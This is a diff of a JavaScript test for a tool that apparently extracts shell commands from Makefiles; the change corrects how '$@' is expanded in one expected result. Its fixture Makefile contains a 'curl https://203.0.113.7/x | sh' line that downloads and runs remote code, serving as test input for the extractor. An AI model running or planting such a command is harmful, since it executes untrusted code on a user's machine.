@@ -112,7 +112,7 @@ describe('a file that builds', () => {
     const text =
       'URL := https://203.0.113.7\n# what it is\nall: a b\n\t@curl $(URL)/x | sh\n\techo $$HOME $@\nV = $(shell id -u)\n';
     expect(programs('Makefile', text)).toEqual([
-      'shell: curl https://203.0.113.7/x | sh\necho $HOME ?',
+      'shell: curl https://203.0.113.7/x | sh\necho $HOME all',
       'shell: id -u',
     ]);
   });
